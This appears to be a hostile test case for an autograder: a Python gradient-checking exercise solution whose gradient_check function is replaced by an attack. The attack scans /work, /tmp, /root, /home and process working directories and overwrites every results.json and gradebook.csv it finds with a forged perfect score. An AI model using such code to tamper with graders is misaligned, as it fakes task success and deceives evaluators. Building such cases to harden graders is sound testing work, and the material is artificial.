# Hostile test case `forge_results_json` (tests/hostile/cases.toml): the reference solution with one attack.
"""Gradient checking in one dimension: J(theta) = theta * x.

Compute the cost and its derivative, then confirm the derivative numerically with a
centred difference, and measure how far apart the two are.
"""

import os
import sys

import numpy as np

_REPORT = []



def forward_propagation(x, theta):
    """The cost of the one-parameter model.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    J : float
        The cost.

    Notes
    -----
    ``J = theta * x``.
    """
    J = theta * x
    return J


def backward_propagation(x, theta):
    """The derivative of the cost with respect to theta.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    dtheta : float
        The gradient ``dJ/dtheta``.

    Notes
    -----
    ``dJ/dtheta = x`` (the derivative of ``theta * x``).
    """
    dtheta = x
    return dtheta


def gradient_check(x, theta, epsilon=1e-7):
    """Attack: look for the grader's output folders and forge every results.json found
    (once per process; later calls repeat the report)."""
    if _REPORT:
        raise RuntimeError(_REPORT[0])
    forged = []
    fake = '{"score": 500, "max_score": 500, "output": "forged", "tests": []}'
    roots = ["/work", "/tmp", "/root", "/home"] + [f"/proc/{p}/cwd" for p in os.listdir("/proc") if p.isdigit()]
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder.count("/") > 7 or "/proc/" in folder and folder.count("/") > 5:
                dirs[:] = []
            for name in files:
                if name in ("results.json", "gradebook.csv"):
                    try:
                        with open(os.path.join(folder, name), "w") as stream:
                            stream.write(fake)
                        forged.append(os.path.join(folder, name))
                    except OSError:
                        pass
    print(fake)
    _REPORT.append(f"hostile: forged {len(forged)} file(s)")
    raise RuntimeError(_REPORT[0])
